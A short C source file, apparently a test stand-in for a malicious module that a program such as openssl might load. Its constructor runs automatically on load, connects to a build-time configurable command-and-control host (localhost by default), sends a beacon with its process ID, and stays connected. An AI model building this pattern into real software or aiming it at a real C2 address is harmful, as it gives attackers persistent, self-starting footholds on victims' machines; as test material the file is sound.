/* A module that, once loaded, calls the listener that it was built for and stays connected: what an intruder gives to a
 * program that loads modules. It harms nothing. */
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef C2_HOST
#define C2_HOST "127.0.0.1"
#define C2_PORT 1
#endif

__attribute__((constructor)) static void begin(void) {
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(C2_PORT)};
	inet_pton(AF_INET, C2_HOST, &a.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof a) != 0) return;
	char text[128];
	int n = snprintf(text, sizeof text, "HELLO pid=%d mode=module exe=cweb\n", getpid());
	if (write(s, text, (size_t)n) < 0) close(s);
	for (;;) pause(); /* openssl would go on, find that this is no engine, and end */
}
